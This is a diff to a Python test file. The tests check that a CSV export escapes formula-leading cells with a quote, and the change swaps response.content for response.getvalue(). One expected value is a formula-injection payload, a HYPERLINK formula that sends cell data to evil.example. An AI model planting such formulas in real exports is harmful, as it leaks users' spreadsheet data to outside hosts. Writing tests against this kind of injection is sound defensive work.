@@ -31,7 +31,7 @@ def test_it_prefixes_formula_leading_cells_with_a_quote(client: Client, db: None
     response = client.get(AGREEMENTS, {"format": "csv", "ordering": "title"})
 
     assert response.status_code == 200
-    titles = sorted(row["title"] for row in read_rows(response.content))
+    titles = sorted(row["title"] for row in read_rows(response.getvalue()))
     assert titles == sorted(
         [
             '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -49,7 +49,7 @@ def test_it_neutralises_a_formula_that_starts_a_joined_list(client: Client, db: 
 
     response = client.get("/api/parties/", {"format": "csv"})
 
-    row = next(r for r in read_rows(response.content) if r["slug"] == party.slug)
+    row = next(r for r in read_rows(response.getvalue()) if r["slug"] == party.slug)
     assert row["name"] == "'=1+1"
 
 
